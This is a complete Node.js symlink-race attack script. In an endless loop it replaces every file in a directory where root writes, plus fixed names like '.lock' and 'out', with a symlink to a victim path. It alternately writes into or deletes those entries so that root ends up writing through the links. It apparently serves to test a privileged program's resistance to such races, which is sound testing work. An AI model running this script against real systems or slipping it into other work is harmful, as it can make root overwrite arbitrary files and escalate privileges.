/**
 * Does what somebody may do to whom root writes into a directory of theirs: puts links to a victim in the place of each
 * file and each part of one, as fast as it can.
 *
 *   node swap-links.js DIRECTORY VICTIM
 */
import { readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";

const [directory, victim] = process.argv.slice(2);
const attempt = (act) => {
  try {
    act();
  } catch {
    // root was faster
  }
};

process.stdout.write("swapping\n");
for (let turn = 0; ; turn += 1) {
  const names = new Set(["out", "ring", ".lock", ...readdirSync(directory)]);
  for (const name of names) {
    const [path, link] = [`${directory}/${name}`, `${directory}/.link`];
    attempt(() => rmSync(link, { force: true }));
    if (turn % 3 === 2) attempt(() => writeFileSync(path, "mine"));
    attempt(() => symlinkSync(victim, link));
    attempt(() => renameSync(link, path));
    if (turn % 3 === 1) attempt(() => rmSync(path, { force: true, recursive: true }));
  }
}
